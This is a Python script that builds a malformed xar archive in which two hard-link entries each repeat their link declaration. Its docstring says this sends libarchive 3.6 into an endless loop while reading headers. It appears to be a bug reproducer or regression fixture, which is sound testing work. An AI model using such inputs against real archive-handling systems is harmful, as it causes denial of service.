#!/usr/bin/env python3
"""Writes a xar archive in which each of two files names its hard link twice.

The table of contents is XML, compressed with zlib, followed by the heap whose first 20 bytes
are the SHA-1 of the compressed table. The first file says twice that it is the original of a
hard link, the second twice that it links to the first; libarchive 3.6 then chains the link
records into a cycle and never returns from reading the headers.
"""
import hashlib
import struct
import sys
import zlib

TOC = """<?xml version="1.0" encoding="UTF-8"?>
<xar>
 <toc>
  <checksum style="sha1"><offset>0</offset><size>20</size></checksum>
  <file id="1">
   <name>urbild</name>
   <type link="original">hardlink</type>
   <type link="original">hardlink</type>
   <mode>0644</mode>
  </file>
  <file id="2">
   <name>abbild</name>
   <type link="1">hardlink</type>
   <type link="1">hardlink</type>
   <mode>0644</mode>
  </file>
 </toc>
</xar>
"""

toc = TOC.encode()
compressed = zlib.compress(toc)
header = struct.pack(">4sHHQQI", b"xar!", 28, 1, len(compressed), len(toc), 1)
with open(sys.argv[1], "wb") as out:
    out.write(header + compressed + hashlib.sha1(compressed).digest())
